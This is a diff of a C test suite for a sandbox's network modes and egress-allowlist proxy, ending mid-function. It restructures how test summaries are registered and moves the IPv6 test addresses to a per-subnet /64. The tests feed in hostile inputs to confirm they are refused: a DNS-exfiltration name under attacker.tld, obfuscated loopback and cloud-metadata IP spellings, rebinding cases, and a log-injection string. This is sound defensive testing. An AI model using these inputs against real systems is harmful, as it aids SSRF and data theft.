@@ -1,4 +1,4 @@
-/* test-network.c: network modes and the egress allowlist (issue 7).
+/* test-network.c: network modes and the egress allowlist.
  *
  * Two parts:
  *
@@ -12,7 +12,7 @@
  *                  - a "test host": a network namespace made here (held by a
  *                    child process, never named, gone when this program is), reached
  *                    from the host over a veth pair, 10.231.X.1 (host side)
- *                    and 10.231.X.2 (inside), fd00:231::X:1 and fd00:231::X:2;
+ *                    and 10.231.X.2 (inside), fd00:231:X::1 and fd00:231:X::2;
  *                    it serves HTTPS (a self-signed certificate made here) on
  *                    8443, a TCP echo on 7777 and counts UDP datagrams on 53;
  *                  - listeners on the host's own loopback, which must never
@@ -670,8 +670,9 @@ typedef struct {
   guint subnet;            /* X of 10.231.X.0/24 */
   char *host_v4;           /* 10.231.X.1: the machine's side */
   char *peer_v4;           /* 10.231.X.2: the test host */
-  char *host_v6;           /* fd00:231::X:1 */
-  char *peer_v6;           /* fd00:231::X:2 */
+  char *host_v6;           /* fd00:231:X::1 */
+  char *peer_v6;           /* fd00:231:X::2 */
+  char *cidr_v6;           /* fd00:231:X::/64 */
   char *workdir;           /* certificate and key */
   Server *https;           /* peer_v4:8443 (stands in for 443); NULL without TLS */
   Server *echo;            /* peer_v4:7777 */
@@ -902,8 +903,10 @@ testnet_up (void)
   holder = g_strdup_printf ("%d", (int) net.holder);
   net.host_v4 = g_strdup_printf ("10.231.%u.1", net.subnet);
   net.peer_v4 = g_strdup_printf ("10.231.%u.2", net.subnet);
-  net.host_v6 = g_strdup_printf ("fd00:231::%x:1", net.subnet);
-  net.peer_v6 = g_strdup_printf ("fd00:231::%x:2", net.subnet);
+  /* A /64 of its own, as the /24 is: test runs of other trees may hold a veth of theirs. */
+  net.host_v6 = g_strdup_printf ("fd00:231:%x::1", net.subnet);
+  net.peer_v6 = g_strdup_printf ("fd00:231:%x::2", net.subnet);
+  net.cidr_v6 = g_strdup_printf ("fd00:231:%x::/64", net.subnet);
   v4_host = g_strconcat (net.host_v4, "/24", NULL);
   v4_peer = g_strconcat (net.peer_v4, "/24", NULL);
   v6_host = g_strconcat (net.host_v6, "/64", NULL);
@@ -1058,18 +1061,13 @@ https_available (void)
 }
 
 static void
-test_allowed_host_https (NetFixture *nf, gconstpointer data)
+test_allowed_host_https (NetFixture *nf, SandstepTestFixture *f, gconstpointer data)
 {
-  SandstepTestFixture *f = net_begin (nf);
   g_autofree char *cidr = NULL;
   g_autofree char *handle = NULL;
   g_autofree char *log = NULL;
   g_autoptr(SandstepTestResult) r = NULL;
 
-  g_test_summary ("an allowed host works over HTTPS through the proxy: curl inside (HTTPS_PROXY, CONNECT "
-                  "svc.test:443) gets the test host's page over TLS; nothing is refused or logged");
-  if (f == NULL)
-    return;
   if (!https_available ())
     return;
   /* The test host's address is private: the name alone would be refused (rebinding), so its /32 is allowed too. */
@@ -1085,17 +1083,12 @@ test_allowed_host_https (NetFixture *nf, gconstpointer data)
 }
 
 static void
-test_plain_http_refused (NetFixture *nf, gconstpointer data)
+test_plain_http_refused (NetFixture *nf, SandstepTestFixture *f, gconstpointer data)
 {
-  SandstepTestFixture *f = net_begin (nf);
   g_autofree char *cidr = NULL;
   g_autofree char *handle = NULL;
   g_autoptr(SandstepTestResult) r = NULL;
 
-  g_test_summary ("plain HTTP to an allowed host is refused: 403 with the reason line, on stderr and in "
-                  "egress.log; curl sees the 403");
-  if (f == NULL)
-    return;
   cidr = g_strdup_printf ("--allow-cidr=%s/32", net.peer_v4);
   handle = provision (nf, "--allow=svc.test", cidr, NULL);
   assert_refused (nf, handle, "GET", "http://svc.test/",
@@ -1110,14 +1103,10 @@ test_plain_http_refused (NetFixture *nf, gconstpointer data)
 }
 
 static void
-test_allowed_host_other_port (NetFixture *nf, gconstpointer data)
+test_allowed_host_other_port (NetFixture *nf, SandstepTestFixture *f, gconstpointer data)
 {
-  SandstepTestFixture *f = net_begin (nf);
   g_autofree char *handle = NULL;
 
-  g_test_summary ("an allowed name is reached on port 443 only: CONNECT svc.test:7777 is refused, saying so");
-  if (f == NULL)
-    return;
   handle = provision (nf, "--allow=svc.test", NULL);
   assert_refused (nf, handle, "CONNECT", "svc.test:7777", "svc.test is allowed over HTTPS on port 443 only, not "
                                                           "port 7777");
@@ -1125,22 +1114,17 @@ test_allowed_host_other_port (NetFixture *nf, gconstpointer data)
 }
 
 static void
-test_allowed_cidr_any_port (NetFixture *nf, gconstpointer data)
+test_allowed_cidr_any_port (NetFixture *nf, SandstepTestFixture *f, gconstpointer data)
 {
-  SandstepTestFixture *f = net_begin (nf);
   g_autofree char *cidr4 = g_strdup_printf ("--allow-cidr=10.231.%u.0/24", net.subnet);
+  g_autofree char *cidr6 = g_strdup_printf ("--allow-cidr=%s", net.cidr_v6);
   g_autofree char *handle = NULL;
   g_autofree char *target = NULL;
   g_autofree char *hex = NULL;
   g_autofree char *decimal = NULL;
   g_autoptr(SandstepTestResult) r = NULL;
 
-  g_test_summary ("an allowed range works on an arbitrary port (7777), from the literal, its hex and integer "
-                  "spellings, and over IPv6 (fd00:231::/64): bytes flow both ways; an unlisted name that would "
-                  "resolve into it is refused without a lookup");
-  if (f == NULL)
-    return;
-  handle = provision (nf, cidr4, "--allow-cidr=fd00:231::/64", NULL);
+  handle = provision (nf, cidr4, cidr6, NULL);
   target = g_strdup_printf ("proxy CONNECT %s:%u ping", net.peer_v4, ECHO_PORT);
   r = run_attack (nf, handle, target);
   attack_assert_line (r, "status=200 reply=echo:ping");
@@ -1170,18 +1154,13 @@ test_allowed_cidr_any_port (NetFixture *nf, gconstpointer data)
 }
 
 static void
-test_tunnel_half_close (NetFixture *nf, gconstpointer data)
+test_tunnel_half_close (NetFixture *nf, SandstepTestFixture *f, gconstpointer data)
 {
-  SandstepTestFixture *f = net_begin (nf);
   g_autofree char *cidr = g_strdup_printf ("--allow-cidr=%s/32", net.peer_v4);
   g_autofree char *handle = NULL;
   g_autofree char *attack = NULL;
   g_autoptr(SandstepTestResult) r = NULL;
 
-  g_test_summary ("bytes flow through a tunnel after the client half-closes (shutdown(SHUT_WR) once its request "
-                  "is sent, as nc -N does): the server's answer still comes back");
-  if (f == NULL)
-    return;
   handle = provision (nf, cidr, NULL);
   attack = g_strdup_printf ("proxy CONNECT %s:%u request halfclose", net.peer_v4, ECHO_PORT);
   r = run_attack (nf, handle, attack);
@@ -1190,17 +1169,13 @@ test_tunnel_half_close (NetFixture *nf, gconstpointer data)
 }
 
 static void
-test_cidr_outside_refused (NetFixture *nf, gconstpointer data)
+test_cidr_outside_refused (NetFixture *nf, SandstepTestFixture *f, gconstpointer data)
 {
-  SandstepTestFixture *f = net_begin (nf);
   g_autofree char *cidr = g_strdup_printf ("--allow-cidr=%s/32", net.peer_v4);
   g_autofree char *handle = NULL;
   g_autofree char *target = NULL;
   g_autofree char *reason = NULL;
 
-  g_test_summary ("an address outside every allowed range is refused, even next door (the host's end of the veth)");
-  if (f == NULL)
-    return;
   handle = provision (nf, cidr, NULL);
   target = g_strdup_printf ("%s:%u", net.host_v4, net.veth_host->port);
   reason = g_strdup_printf ("%s (given as '%s') is in no allowed address range", net.host_v4, net.host_v4);
@@ -1225,23 +1200,19 @@ static const RebindCase rebind_cases[] = {
   { "F39-rebind-host-own", "own.test", NULL,
     "ref 4.39 an allowed name resolving to one of the host's own addresses is refused" },
   { "F39-rebind-v6-loopback", "v6loop.test", "::1", "ref 4.39 an allowed name resolving to ::1 is refused" },
-  { "F39-rebind-v6-ula", "ula.test", NULL, "ref 4.39 an allowed name resolving to fd00:231::X:2 (ULA) is refused" },
+  { "F39-rebind-v6-ula", "ula.test", NULL, "ref 4.39 an allowed name resolving to fd00:231:X::2 (ULA) is refused" },
 };
 
 static void
-test_rebinding (NetFixture *nf, gconstpointer data)
+test_rebinding (NetFixture *nf, SandstepTestFixture *f, gconstpointer data)
 {
-  const RebindCase *c = ((const gconstpointer *) data)[0];
-  SandstepTestFixture *f = net_begin (nf);
+  const RebindCase *c = data;
   g_autofree char *allow = g_strdup_printf ("--allow=%s", c->host);
   g_autofree char *handle = NULL;
   g_autofree char *target = g_strdup_printf ("%s:443", c->host);
   g_autofree char *reason = NULL;
   const char *address = c->address;
 
-  g_test_summary (c->summary);
-  if (f == NULL)
-    return;
   if (address == NULL)
     address = strcmp (c->host, "svc.test") == 0 ? net.peer_v4 : strcmp (c->host, "own.test") == 0 ? net.host_v4
                                                                                                  : net.peer_v6;
@@ -1259,17 +1230,12 @@ test_rebinding (NetFixture *nf, gconstpointer data)
 }
 
 static void
-test_rebind_v4_mapped (NetFixture *nf, gconstpointer data)
+test_rebind_v4_mapped (NetFixture *nf, SandstepTestFixture *f, gconstpointer data)
 {
-  SandstepTestFixture *f = net_begin (nf);
   g_autofree char *handle = NULL;
   g_autofree char *port = NULL;
   g_autoptr(SandstepTestResult) r = NULL;
 
-  g_test_summary ("ref 4.39 an allowed name whose address is ::ffff:127.0.0.1 (an AAAA record any DNS server can "
-                  "return) is refused: the host's loopback service must see no connection");
-  if (f == NULL)
-    return;
   port = g_strdup_printf ("%u", net.loopback_https->port);
   sandstep_test_fixture_setenv (f, "SANDSTEP_TEST_HTTPS_PORT", port);
   handle = provision (nf, "--allow=mapped.test", NULL);
@@ -1282,17 +1248,12 @@ test_rebind_v4_mapped (NetFixture *nf, gconstpointer data)
 }
 
 static void
-test_rebind_allowed_by_range (NetFixture *nf, gconstpointer data)
+test_rebind_allowed_by_range (NetFixture *nf, SandstepTestFixture *f, gconstpointer data)
 {
-  SandstepTestFixture *f = net_begin (nf);
   g_autofree char *cidr = g_strdup_printf ("--allow-cidr=10.231.%u.0/24", net.subnet);
   g_autofree char *handle = NULL;
   g_autoptr(SandstepTestResult) r = NULL;
 
-  g_test_summary ("ref 4.39 the same name resolving to 10.231.X.2 is reached once --allow-cidr covers it "
-                  "(HTTPS through the tunnel, TLS handshake with the test host)");
-  if (f == NULL)
-    return;
   if (!https_available ())
     return;
   handle = provision (nf, "--allow=svc.test", cidr, NULL);
@@ -1303,7 +1264,7 @@ test_rebind_allowed_by_range (NetFixture *nf, gconstpointer data)
 }
 
 static void
-test_literal_spellings (NetFixture *nf, gconstpointer data)
+test_literal_spellings (NetFixture *nf, SandstepTestFixture *f, gconstpointer data)
 {
   static const struct { const char *target; const char *shown; const char *given; } literals[] = {
     { "2130706433:443", "127.0.0.1", "2130706433" },
@@ -1315,15 +1276,9 @@ test_literal_spellings (NetFixture *nf, gconstpointer data)
     { "[::1]:443", "::1", "[::1]" },
     { "0xA9.0xFE.0xA9.0xFE:80", "169.254.169.254", "0xA9.0xFE.0xA9.0xFE" },
   };
-  SandstepTestFixture *f = net_begin (nf);
   g_autofree char *handle = NULL;
   g_autofree char *port = NULL;
 
-  g_test_summary ("ref 4.40 IP literal spellings of loopback and metadata (2130706433, 0177.0.0.1, 0x7f.1, 127.1, "
-                  "[::ffff:127.0.0.1], [64:ff9b::7f00:1], [::1], hex 169.254.169.254) are refused after "
-                  "normalisation; the host's loopback service sees nothing");
-  if (f == NULL)
-    return;
   port = g_strdup_printf ("%u", net.loopback_https->port);
   sandstep_test_fixture_setenv (f, "SANDSTEP_TEST_HTTPS_PORT", port);
   handle = provision (nf, "--allow=svc.test", NULL);
@@ -1338,47 +1293,32 @@ test_literal_spellings (NetFixture *nf, gconstpointer data)
 }
 
 static void
-test_unlisted_name (NetFixture *nf, gconstpointer data)
+test_unlisted_name (NetFixture *nf, SandstepTestFixture *f, gconstpointer data)
 {
-  SandstepTestFixture *f = net_begin (nf);
   g_autofree char *handle = NULL;
 
-  g_test_summary ("ref 4.38 a name not on the allowlist is refused as such (no lookup is made for it)");
-  if (f == NULL)
-    return;
   handle = provision (nf, "--allow=svc.test", NULL);
   assert_refused (nf, handle, "CONNECT", "c2VjcmV0.attacker.tld:443", "c2vjcmv0.attacker.tld is not an allowed host");
 }
 
 static void
-test_unlisted_name_with_range (NetFixture *nf, gconstpointer data)
+test_unlisted_name_with_range (NetFixture *nf, SandstepTestFixture *f, gconstpointer data)
 {
-  SandstepTestFixture *f = net_begin (nf);
   g_autofree char *cidr = g_strdup_printf ("--allow-cidr=10.231.%u.0/24", net.subnet);
   g_autofree char *handle = NULL;
 
-  g_test_summary ("ref 4.38 DNS exfiltration through the proxy: with an allowed range configured too, an "
-                  "unlisted name is refused as not allowed, without a lookup on the host (the refusal must not "
-                  "say it did not resolve)");
-  if (f == NULL)
-    return;
   handle = provision (nf, "--allow=svc.test", cidr, NULL);
   assert_refused (nf, handle, "CONNECT", "c2VjcmV0.attacker.tld:443", "c2vjcmv0.attacker.tld is not an allowed host");
 }
 
 static void
-test_dns_fails (NetFixture *nf, gconstpointer data)
+test_dns_fails (NetFixture *nf, SandstepTestFixture *f, gconstpointer data)
 {
-  const char *mode = ((const gconstpointer *) data)[0];
-  SandstepTestFixture *f = net_begin (nf);
+  const char *mode = data;
   g_autofree char *handle = NULL;
   g_autofree char *udp = g_strdup_printf ("udp %s 53", net.peer_v4);
   g_autoptr(SandstepTestResult) r = NULL;
 
-  g_test_summary ("ref 4.38 no DNS inside: no resolv.conf, getent fails, a query sent straight to the test "
-                  "host's port 53 gets ENETUNREACH, and the test host receives no datagram");
-  if (f == NULL)
-    return;
   handle = strcmp (mode, "none") == 0 ? provision (nf, "--network=none", NULL) : provision (nf, "--allow=svc.test", NULL);
   r = run_attack (nf, handle, "stat /etc/resolv.conf");
   attack_assert_line (r, "errno=ENOENT");
@@ -1392,17 +1332,12 @@ test_dns_fails (NetFixture *nf, gconstpointer data)
 }
 
 static void
-test_none_reaches_nothing (NetFixture *nf, gconstpointer data)
+test_none_reaches_nothing (NetFixture *nf, SandstepTestFixture *f, gconstpointer data)
 {
-  SandstepTestFixture *f = net_begin (nf);
   g_autofree char *handle = NULL;
   g_autofree char *attack = NULL;
   g_autoptr(SandstepTestResult) r = NULL;
 
-  g_test_summary ("--network=none reaches nothing: not the test host (v4, v6: ENETUNREACH), not the host's "
-                  "loopback services, and there is no proxy port (ECONNREFUSED)");
-  if (f == NULL)
-    return;
   handle = provision (nf, "--network=none", NULL);
   attack = g_strdup_printf ("connect %s %u", net.peer_v4, ECHO_PORT);
   r = run_attack (nf, handle, attack);
@@ -1424,18 +1359,13 @@ test_none_reaches_nothing (NetFixture *nf, gconstpointer data)
 }
 
 static void
-test_proxy_unaware (NetFixture *nf, gconstpointer data)
+test_proxy_unaware (NetFixture *nf, SandstepTestFixture *f, gconstpointer data)
 {
-  SandstepTestFixture *f = net_begin (nf);
   g_autofree char *cidr = g_strdup_printf ("--allow-cidr=10.231.%u.0/24", net.subnet);
   g_autofree char *handle = NULL;
   g_autofree char *attack = NULL;
   g_autoptr(SandstepTestResult) r = NULL;
 
-  g_test_summary ("ref 4.42 a proxy-unaware connect fails closed with ENETUNREACH, even to an allowed range "
-                  "(only the proxy leads out), and the test host sees nothing");
-  if (f == NULL)
-    return;
   handle = provision (nf, "--allow=svc.test", cidr, NULL);
   r = run_attack (nf, handle, "connect 1.1.1.1 443");
   attack_assert_line (r, "errno=ENETUNREACH");
@@ -1463,9 +1393,8 @@ tun_usable_by (uid_t uid)
 }
 
 static void
-test_open_network (NetFixture *nf, gconstpointer data)
+test_open_network (NetFixture *nf, SandstepTestFixture *f, gconstpointer data)
 {
-  SandstepTestFixture *f = net_begin (nf);
   g_autofree char *handle = NULL;
   g_autofree char *attack = NULL;
   g_autofree char *name = g_strdup_printf ("sandstep-net-%d-%08x", (int) getpid (), g_random_int ());
@@ -1474,11 +1403,6 @@ test_open_network (NetFixture *nf, gconstpointer data)
   struct sockaddr_un addr = { .sun_family = AF_UNIX };
   int fd;
 
-  g_test_summary ("--network=open reaches the network through a user-mode stack of its own: the test host's echo "
-                  "service answers; the host's loopback TCP services (ECONNREFUSED), its abstract unix sockets "
-                  "(ECONNREFUSED, and absent from /proc/net/unix) and its socket files (ENOENT) stay out of reach");
-  if (f == NULL)
-    return;
   memcpy (addr.sun_path + 1, name, strlen (name));
   fd = socket (AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
   g_assert_cmpint (bind (fd, (struct sockaddr *) &addr, offsetof (struct sockaddr_un, sun_path) + 1 + strlen (name)),
@@ -1520,9 +1444,8 @@ test_open_network (NetFixture *nf, gconstpointer data)
 }
 
 static void
-test_host_loopback_from_allow (NetFixture *nf, gconstpointer data)
+test_host_loopback_from_allow (NetFixture *nf, SandstepTestFixture *f, gconstpointer data)
 {
-  SandstepTestFixture *f = net_begin (nf);
   g_autofree char *handle = NULL;
   g_autofree char *attack = NULL;
   g_autofree char *name = g_strdup_printf ("sandstep-net-%d-%08x", (int) getpid (), g_random_int ());
@@ -1530,10 +1453,6 @@ test_host_loopback_from_allow (NetFixture *nf, gconstpointer data)
   struct sockaddr_un addr = { .sun_family = AF_UNIX };
   int fd;
 
-  g_test_summary ("ref 4.34-36 in allow mode too: the host's loopback TCP services (ECONNREFUSED), its abstract "
-                  "unix sockets (ECONNREFUSED) and its socket files (ENOENT) are out of reach");
-  if (f == NULL)
-    return;
   memcpy (addr.sun_path + 1, name, strlen (name));
   fd = socket (AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
   g_assert_cmpint (bind (fd, (struct sockaddr *) &addr, offsetof (struct sockaddr_un, sun_path) + 1 + strlen (name)),
@@ -1556,7 +1475,7 @@ test_host_loopback_from_allow (NetFixture *nf, gconstpointer data)
 }
 
 static void
-test_families_in_allow (NetFixture *nf, gconstpointer data)
+test_families_in_allow (NetFixture *nf, SandstepTestFixture *f, gconstpointer data)
 {
   static const char *const attacks[][2] = {
     { "socket packet raw 0", "errno=EAFNOSUPPORT" }, { "socket vsock stream 0", "errno=EAFNOSUPPORT" },
@@ -1564,13 +1483,8 @@ test_families_in_allow (NetFixture *nf, gconstpointer data)
     { "socket netlink raw 9", "errno=EAFNOSUPPORT" }, { "socket inet raw 1", "errno=EPERM" },
     { "socket inet6 raw 58", "errno=EPERM" },
   };
-  SandstepTestFixture *f = net_begin (nf);
   g_autofree char *handle = NULL;
 
-  g_test_summary ("ref 4.37 in allow mode the socket families stay filtered: packet, vsock, bluetooth, alg, "
-                  "netlink-audit (EAFNOSUPPORT), raw IP (EPERM)");
-  if (f == NULL)
-    return;
   handle = provision (nf, "--allow=svc.test", NULL);
   for (gsize i = 0; i < G_N_ELEMENTS (attacks); i++)
     {
@@ -1580,19 +1494,13 @@ test_families_in_allow (NetFixture *nf, gconstpointer data)
 }
 
 static void
-test_relay_abuse (NetFixture *nf, gconstpointer data)
+test_relay_abuse (NetFixture *nf, SandstepTestFixture *f, gconstpointer data)
 {
-  SandstepTestFixture *f = net_begin (nf);
   g_autofree char *handle = NULL;
   g_autofree char *target = NULL;
   g_autofree char *reason = NULL;
   g_autoptr(SandstepTestResult) r = NULL;
 
-  g_test_summary ("ref 4.43 the proxy port leads to the proxy and nowhere else: the host's loopback and garbage "
-                  "requests get 403; nothing of the proxy's host side (a socket, a directory) is in the sandbox; "
-                  "3128 is the only port");
-  if (f == NULL)
-    return;
   handle = provision (nf, "--allow=svc.test", NULL);
   target = g_strdup_printf ("127.0.0.1:%u", net.loopback->port);
   reason = g_strdup_printf ("127.0.0.1 (given as '127.0.0.1') is in no allowed address range");
@@ -1613,9 +1521,8 @@ test_relay_abuse (NetFixture *nf, gconstpointer data)
 }
 
 static void
-test_proxy_socket_private (NetFixture *nf, gconstpointer data)
+test_proxy_socket_private (NetFixture *nf, SandstepTestFixture *f, gconstpointer data)
 {
-  SandstepTestFixture *f = net_begin (nf);
   g_autofree char *a = NULL;
   g_autofree char *b = NULL;
   g_autofree char *ha = NULL;
@@ -1629,11 +1536,6 @@ test_proxy_socket_private (NetFixture *nf, gconstpointer data)
   SandstepTestProc *proc;
   struct stat st;
 
-  g_test_summary ("ref 4.44 there is no credential to steal: the proxy has no socket on any file system, only "
-                  "the connections the sandbox's init hands it; the sandbox's directory (0700) holds one socket, "
-                  "its supervisor's, which another sandbox cannot reach");
-  if (f == NULL)
-    return;
   a = provision (nf, "--allow=svc.test", NULL);
   {
     g_autofree char *holder = g_strconcat (f->holder, "/b", NULL);
@@ -1675,17 +1577,12 @@ test_proxy_socket_private (NetFixture *nf, gconstpointer data)
 }
 
 static void
-test_domain_fronting (NetFixture *nf, gconstpointer data)
+test_domain_fronting (NetFixture *nf, SandstepTestFixture *f, gconstpointer data)
 {
-  SandstepTestFixture *f = net_begin (nf);
   g_autofree char *cidr = g_strdup_printf ("--allow-cidr=%s/32", net.peer_v4);
   g_autofree char *handle = NULL;
   g_autoptr(SandstepTestResult) r = NULL;
 
-  g_test_summary ("ref 4.41 domain fronting is a limitation (sandbox-runtimes.md §4.41): the proxy checks the "
-                  "CONNECT target only, so a Host header naming another site goes through the tunnel unseen");
-  if (f == NULL)
-    return;
   if (!https_available ())
     return;
   handle = provision (nf, "--allow=svc.test", cidr, NULL);
@@ -1695,19 +1592,13 @@ test_domain_fronting (NetFixture *nf, gconstpointer data)
 }
 
 static void
-test_log_injection (NetFixture *nf, gconstpointer data)
+test_log_injection (NetFixture *nf, SandstepTestFixture *f, gconstpointer data)
 {
-  SandstepTestFixture *f = net_begin (nf);
   g_autofree char *handle = NULL;
   g_autofree char *log = NULL;
   g_autoptr(SandstepTestResult) r = NULL;
   g_auto(GStrv) lines = NULL;
 
-  g_test_summary ("a CONNECT target carrying a newline and terminal escapes is refused as one line: egress.log "
-                  "gains exactly one line, and neither it nor the helper's stderr carries a raw control "
-                  "character (no forged log lines, no escape sequences on the user's terminal)");
-  if (f == NULL)
-    return;
   handle = provision (nf, "--allow=svc.test", NULL);
   r = run_command (nf, handle,
                    "/data/bin/attack proxy CONNECT \"$(printf 'evil.test\\n2026-01-01T00:00:00Z\\tsandbox=x\\t"
@@ -1724,40 +1615,91 @@ test_log_injection (NetFixture *nf, gconstpointer data)
 
 /* ---- registration ---- */
 
+/* One case: the runner begins it (skipping where the test host cannot be
+ * built), gives its summary, and calls it with the fixture ready and @arg. */
 typedef struct {
   const char *name;
-  void (*func) (NetFixture *, gconstpointer);
+  void (*func) (NetFixture *nf, SandstepTestFixture *f, gconstpointer arg);
   gboolean as_user;
   gconstpointer arg;
+  const char *summary;
 } NetCase;
 
 static const NetCase net_cases[] = {
-  { "allowed-host-https", test_allowed_host_https, TRUE, NULL },
-  { "plain-http-refused", test_plain_http_refused, TRUE, NULL },
-  { "allowed-host-other-port", test_allowed_host_other_port, FALSE, NULL },
-  { "allowed-cidr-any-port", test_allowed_cidr_any_port, TRUE, NULL },
-  { "tunnel-half-close", test_tunnel_half_close, FALSE, NULL },
-  { "F34-36-host-services-from-allow", test_host_loopback_from_allow, TRUE, NULL },
-  { "F37-families-in-allow", test_families_in_allow, FALSE, NULL },
-  { "F38-dns-fails-none", test_dns_fails, FALSE, "none" },
-  { "F38-dns-fails-allow", test_dns_fails, TRUE, "allow" },
-  { "F38-unlisted-name", test_unlisted_name, FALSE, NULL },
-  { "F38-unlisted-name-with-range", test_unlisted_name_with_range, FALSE, NULL },
-  { "F39-rebind-v4-mapped", test_rebind_v4_mapped, FALSE, NULL },
-  { "F39-rebind-allowed-by-range", test_rebind_allowed_by_range, FALSE, NULL },
-  { "F39-cidr-outside-refused", test_cidr_outside_refused, FALSE, NULL },
-  { "F40-literal-spellings", test_literal_spellings, TRUE, NULL },
-  { "F41-domain-fronting", test_domain_fronting, FALSE, NULL },
-  { "F42-proxy-unaware", test_proxy_unaware, TRUE, NULL },
-  { "F43-relay-abuse", test_relay_abuse, FALSE, NULL },
-  { "F44-proxy-socket-private", test_proxy_socket_private, FALSE, NULL },
-  { "none-reaches-nothing", test_none_reaches_nothing, TRUE, NULL },
-  { "open-reaches-network-not-host", test_open_network, TRUE, NULL },
-  { "refusal-log-injection", test_log_injection, FALSE, NULL },
+  { "allowed-host-https", test_allowed_host_https, TRUE, NULL,
+    "an allowed host works over HTTPS through the proxy: curl inside (HTTPS_PROXY, CONNECT "
+    "svc.test:443) gets the test host's page over TLS; nothing is refused or logged" },
+  { "plain-http-refused", test_plain_http_refused, TRUE, NULL,
+    "plain HTTP to an allowed host is refused: 403 with the reason line, on stderr and in "
+    "egress.log; curl sees the 403" },
+  { "allowed-host-other-port", test_allowed_host_other_port, FALSE, NULL,
+    "an allowed name is reached on port 443 only: CONNECT svc.test:7777 is refused, saying so" },
+  { "allowed-cidr-any-port", test_allowed_cidr_any_port, TRUE, NULL,
+    "an allowed range works on an arbitrary port (7777), from the literal, its hex and integer "
+    "spellings, and over IPv6 (the test host's /64): bytes flow both ways; an unlisted name that would "
+    "resolve into it is refused without a lookup" },
+  { "tunnel-half-close", test_tunnel_half_close, FALSE, NULL,
+    "bytes flow through a tunnel after the client half-closes (shutdown(SHUT_WR) once its request "
+    "is sent, as nc -N does): the server's answer still comes back" },
+  { "F34-36-host-services-from-allow", test_host_loopback_from_allow, TRUE, NULL,
+    "ref 4.34-36 in allow mode too: the host's loopback TCP services (ECONNREFUSED), its abstract "
+    "unix sockets (ECONNREFUSED) and its socket files (ENOENT) are out of reach" },
+  { "F37-families-in-allow", test_families_in_allow, FALSE, NULL,
+    "ref 4.37 in allow mode the socket families stay filtered: packet, vsock, bluetooth, alg, "
+    "netlink-audit (EAFNOSUPPORT), raw IP (EPERM)" },
+  { "F38-dns-fails-none", test_dns_fails, FALSE, "none",
+    "ref 4.38 no DNS inside: no resolv.conf, getent fails, a query sent straight to the test "
+    "host's port 53 gets ENETUNREACH, and the test host receives no datagram" },
+  { "F38-dns-fails-allow", test_dns_fails, TRUE, "allow",
+    "ref 4.38 no DNS inside: no resolv.conf, getent fails, a query sent straight to the test "
+    "host's port 53 gets ENETUNREACH, and the test host receives no datagram" },
+  { "F38-unlisted-name", test_unlisted_name, FALSE, NULL,
+    "ref 4.38 a name not on the allowlist is refused as such (no lookup is made for it)" },
+  { "F38-unlisted-name-with-range", test_unlisted_name_with_range, FALSE, NULL,
+    "ref 4.38 DNS exfiltration through the proxy: with an allowed range configured too, an "
+    "unlisted name is refused as not allowed, without a lookup on the host (the refusal must not "
+    "say it did not resolve)" },
+  { "F39-rebind-v4-mapped", test_rebind_v4_mapped, FALSE, NULL,
+    "ref 4.39 an allowed name whose address is ::ffff:127.0.0.1 (an AAAA record any DNS server can "
+    "return) is refused: the host's loopback service must see no connection" },
+  { "F39-rebind-allowed-by-range", test_rebind_allowed_by_range, FALSE, NULL,
+    "ref 4.39 the same name resolving to 10.231.X.2 is reached once --allow-cidr covers it "
+    "(HTTPS through the tunnel, TLS handshake with the test host)" },
+  { "F39-cidr-outside-refused", test_cidr_outside_refused, FALSE, NULL,
+    "an address outside every allowed range is refused, even next door (the host's end of the veth)" },
+  { "F40-literal-spellings", test_literal_spellings, TRUE, NULL,
+    "ref 4.40 IP literal spellings of loopback and metadata (2130706433, 0177.0.0.1, 0x7f.1, 127.1, "
+    "[::ffff:127.0.0.1], [64:ff9b::7f00:1], [::1], hex 169.254.169.254) are refused after "
+    "normalisation; the host's loopback service sees nothing" },
+  { "F41-domain-fronting", test_domain_fronting, FALSE, NULL,
+    "ref 4.41 domain fronting is a limitation: the proxy checks the "
+    "CONNECT target only, so a Host header naming another site goes through the tunnel unseen" },
+  { "F42-proxy-unaware", test_proxy_unaware, TRUE, NULL,
+    "ref 4.42 a proxy-unaware connect fails closed with ENETUNREACH, even to an allowed range "
+    "(only the proxy leads out), and the test host sees nothing" },
+  { "F43-relay-abuse", test_relay_abuse, FALSE, NULL,
+    "ref 4.43 the proxy port leads to the proxy and nowhere else: the host's loopback and garbage "
+    "requests get 403; nothing of the proxy's host side (a socket, a directory) is in the sandbox; "
+    "3128 is the only port" },
+  { "F44-proxy-socket-private", test_proxy_socket_private, FALSE, NULL,
+    "ref 4.44 there is no credential to steal: the proxy has no socket on any file system, only "
+    "the connections the sandbox's init hands it; the sandbox's directory (0700) holds one socket, "
+    "its supervisor's, which another sandbox cannot reach" },
+  { "none-reaches-nothing", test_none_reaches_nothing, TRUE, NULL,
+    "--network=none reaches nothing: not the test host (v4, v6: ENETUNREACH), not the host's "
+    "loopback services, and there is no proxy port (ECONNREFUSED)" },
+  { "open-reaches-network-not-host", test_open_network, TRUE, NULL,
+    "--network=open reaches the network through a user-mode stack of its own: the test host's echo "
+    "service answers; the host's loopback TCP services (ECONNREFUSED), its abstract unix sockets "
+    "(ECONNREFUSED, and absent from /proc/net/unix) and its socket files (ENOENT) stay out of reach" },
+  { "refusal-log-injection", test_log_injection, FALSE, NULL,
+    "a CONNECT target carrying a newline and terminal escapes is refused as one line: egress.log "
+    "gains exactly one line, and neither it nor the helper's stderr carries a raw control "
+    "character (no forged log lines, no escape sequences on the user's terminal)" },
 };
 
 typedef struct {
-  gconstpointer arg;   /* first: the cases read it as ((gconstpointer *) data)[0] */
+  const NetCase *c;
   RunAs as;
 } NetVariant;
 
@@ -1768,15 +1710,26 @@ variant_setup (NetFixture *nf, gconstpointer data)
 }
 
 static void
-add_case (const char *prefix, const char *name, void (*func) (NetFixture *, gconstpointer), RunAs as,
-          gconstpointer arg)
+case_run (NetFixture *nf, gconstpointer data)
+{
+  const NetCase *c = ((const NetVariant *) data)->c;
+  SandstepTestFixture *f = net_begin (nf);
+
+  g_test_summary (c->summary);
+  if (f == NULL)
+    return;
+  c->func (nf, f, c->arg);
+}
+
+static void
+add_case (const char *prefix, const NetCase *c, RunAs as)
 {
   NetVariant *v = g_new0 (NetVariant, 1);   /* lives as long as the program */
-  g_autofree char *path = g_strconcat (prefix, name, NULL);
+  g_autofree char *path = g_strconcat (prefix, c->name, NULL);
 
-  v->arg = arg;
+  v->c = c;
   v->as = as;
-  g_test_add (path, NetFixture, v, variant_setup, func, net_teardown);
